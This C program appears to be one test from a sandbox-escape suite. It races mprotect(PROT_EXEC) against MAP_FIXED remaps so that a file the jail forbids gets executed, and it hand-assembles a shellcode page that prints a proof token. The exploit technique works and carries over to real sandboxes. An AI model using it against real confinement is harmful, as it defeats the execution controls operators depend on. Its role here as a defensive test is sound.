/* e0514-mprotect-remap-race - run code of a file the jail may not
 * execute, by remapping the range of a checked mprotect.
 *
 * Attack: a supervisor that judges mprotect(PROT_EXEC) by the file
 * mapped in the range looks at the address space at the check; the
 * kernel acts on it later.  One thread makes a page executable again and
 * again, while another maps there, PROT_READ only, a file the jail may
 * execute (ALLOWED) and a file of its own directory that it may not
 * (JAIL-FILE) in turn: over the old mapping (MAP_FIXED), or in every
 * other round after an munmap (MAP_FIXED_NOREPLACE, which a seccomp
 * prefilter may let by like any mmap that replaces nothing).  A check that saw ALLOWED, then a
 * remap landing before the kernel's mprotect, leaves JAIL-FILE
 * executable: after each mprotect that succeeded, the first thread
 * calls the page when JAIL-FILE is there; when that page is not
 * executable (remapped since) the call faults, and the fault is caught.
 * JAIL-FILE's code prints a token only that file holds (the driver's
 * evidence).  Natively nothing is checked: an mprotect that meets
 * JAIL-FILE and no remap before the call runs it.
 * Source: Garfinkel 2003, "Traps and Pitfalls" (races between the check
 * and the kernel's use); Watson 2007 (state changed by another thread
 * between a wrapper's check and the call); doc/races.md.
 * Usage: e0514-mprotect-remap-race ALLOWED JAIL-FILE
 *        e0514-mprotect-remap-race payload JAIL-FILE TOKEN
 * (payload: the driver's setup, outside the jail: writes JAIL-FILE, a
 * page whose code prints TOKEN and returns; code of the program's own
 * ABI, x86_64 or i386.) */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "escape.h"

#define PAGE 4096
#define MSG_MAX 128	/* the payload's message, at most */
#define HEAD 16		/* bytes that tell the jail's file from the other */
#define DWELL 2000	/* the remapper's pause between remaps (loop turns) */

/* Appends n bytes to the code at *at. */
static void emit(unsigned char **at, const void *bytes, size_t n)
{
	memcpy(*at, bytes, n);
	*at += n;
}

/* The payload builds the message on the stack from immediates (so that
 * it comes from the code that ran, not from data a remap could change
 * under the call), writes it to fd 1 and returns.  x86_64 code:
 *   (mov rax, imm64; push rax) for each 8 bytes, last first;
 *   mov rsi, rsp; mov edx, len; mov edi, 1; mov eax, 1 (write);
 *   syscall; add rsp, size; ret
 * i386 code (ebx is the caller's: kept):
 *   push ebx; (push imm32) for each 4 bytes, last first;
 *   mov ecx, esp; mov edx, len; mov ebx, 1; mov eax, 4 (write);
 *   int $0x80; add esp, size; pop ebx; ret */
static int write_payload(const char *path, const char *token)
{
	char msg[MSG_MAX] = { 0 };
	int n = snprintf(msg, sizeof msg, "code of the jail's file ran: %s\n", token);
	if (n < 0 || n >= (int)sizeof msg) {
		fprintf(stderr, "token too long\n");
		return 2;
	}
	unsigned char page[PAGE] = { 0 }, *at = page;
#if defined(__i386__)
	int32_t len = n, size = (n + 3) & ~3;
	emit(&at, "\x53", 1);
	for (int i = size - 4; i >= 0; i -= 4) {
		emit(&at, "\x68", 1);
		emit(&at, msg + i, 4);
	}
	emit(&at, "\x89\xe1\xba", 3);
	emit(&at, &len, 4);			/* little-endian imm32 */
	emit(&at, "\xbb\x01\0\0\0\xb8\x04\0\0\0\xcd\x80\x81\xc4", 14);
	emit(&at, &size, 4);
	emit(&at, "\x5b\xc3", 2);
#else
	int32_t len = n, size = (n + 7) & ~7;
	for (int i = size - 8; i >= 0; i -= 8) {
		emit(&at, "\x48\xb8", 2);
		emit(&at, msg + i, 8);
		emit(&at, "\x50", 1);
	}
	emit(&at, "\x48\x89\xe6\xba", 4);
	emit(&at, &len, 4);			/* little-endian imm32 */
	emit(&at, "\xbf\x01\0\0\0\xb8\x01\0\0\0\x0f\x05\x48\x81\xc4", 15);
	emit(&at, &size, 4);
	emit(&at, "\xc3", 1);
#endif
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0 || esc_write_all(fd, page, sizeof page) < 0 || close(fd) < 0)
		esc_die(path);
	return 0;
}

static char *range;
static int fd_allowed, fd_jail;
static int stop;
static sigjmp_buf fault;
static long remaps;
static const char *remap_error;

static void on_fault(int sig)
{
	(void)sig;
	siglongjmp(fault, 1);
}

/* The remapper pauses after each remap, so that the range often stays
 * as it is from an mprotect to the call that follows it. */
static void pause_a_moment(void)
{
	for (volatile int i = 0; i < DWELL; i++)
		;
}

/* Puts fd's first page at the range, PROT_READ: over what is there
 * (MAP_FIXED), or with by_hole after an munmap, where a plain mmap at
 * the hint (MAP_FIXED_NOREPLACE) need not stop in the supervisor.
 * False, with remap_error set, when the page could not be put there
 * (something else took the hole): the remapper stops. */
static bool map_at_range(int fd, bool by_hole)
{
	void *p;
	if (by_hole) {
		if (munmap(range, PAGE) < 0) {
			remap_error = "munmap";
			return false;
		}
		p = mmap(range, PAGE, PROT_READ, MAP_PRIVATE | MAP_FIXED_NOREPLACE, fd, 0);
	} else {
		p = mmap(range, PAGE, PROT_READ, MAP_PRIVATE | MAP_FIXED, fd, 0);
	}
	if (p != range) {
		remap_error = p == MAP_FAILED ? esc_errno_name(errno) : "mapped elsewhere";
		return false;
	}
	remaps++;
	pause_a_moment();
	return true;
}

static void *remapper(void *arg)
{
	(void)arg;
	for (unsigned round = 0; !__atomic_load_n(&stop, __ATOMIC_RELAXED); round++)
		if (!map_at_range(fd_jail, round & 1) || !map_at_range(fd_allowed, round & 1))
			break;
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "payload") == 0)
		return write_payload(argv[2], argv[3]);
	esc_need_args(argc, 3, "e0514-mprotect-remap-race ALLOWED JAIL-FILE");
#if !defined(__x86_64__) && !defined(__i386__)
	fprintf(stderr, "SKIP: the payload is x86_64 or i386 code\n");
	return ESC_SKIP;
#endif
	fd_allowed = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (fd_allowed < 0)
		esc_die(argv[1]);
	fd_jail = open(argv[2], O_RDONLY | O_CLOEXEC);
	if (fd_jail < 0)
		esc_die(argv[2]);
	unsigned char head[HEAD];
	if (pread(fd_jail, head, sizeof head, 0) != (ssize_t)sizeof head)
		esc_die("read the jail's file");
	range = mmap(NULL, PAGE, PROT_READ, MAP_PRIVATE, fd_allowed, 0);
	if (range == MAP_FAILED)
		esc_die("mmap");
	if (memcmp(range, head, sizeof head) == 0) {
		fprintf(stderr, "the two files begin alike\n");
		return 2;
	}
	struct sigaction sa = { .sa_handler = on_fault };
	sigemptyset(&sa.sa_mask);
	if (sigaction(SIGSEGV, &sa, NULL) < 0)
		esc_die("sigaction");

	pthread_t t;
	if (pthread_create(&t, NULL, remapper, NULL) != 0)
		esc_die("pthread_create");
	/* Static: changed between sigsetjmp and a siglongjmp. */
	static struct esc_race r;
	static long ok, failed, seen, faults, ran;
	esc_race_init(&r);
	while (!ran && esc_race_go(&r)) {
		if (mprotect(range, PAGE, PROT_READ | PROT_EXEC) < 0) {
			failed++;	/* refused, or a hole: ENOMEM */
			continue;
		}
		ok++;
		/* The only executable mapping there can be is the one this
		 * mprotect made: a remap since made the range PROT_READ (or
		 * a hole), and calling it faults.  So when the jail's file is
		 * seen there, the call runs its code, or faults. */
		if (sigsetjmp(fault, 1) == 0) {
			if (memcmp(range, head, sizeof head) == 0) {
				seen++;
				void (*fn)(void) = (void (*)(void))(uintptr_t)range;
				fn();
				ran = 1;
			}
		} else {
			faults++;
		}
	}
	__atomic_store_n(&stop, 1, __ATOMIC_RELAXED);
	pthread_join(t, NULL);
	printf("mprotect PROT_EXEC: %ld tries, %ld ok, %ld failed; %ld remaps; "
	       "the jail's file seen %ld times; %ld faults\n",
	       r.tries, ok, failed, remaps, seen, faults);
	if (remap_error)
		printf("the remapper stopped: %s\n", remap_error);
	printf("%s\n", ran ? "the jail's file ran as code" : "the jail's file never ran");
	return 0;
}
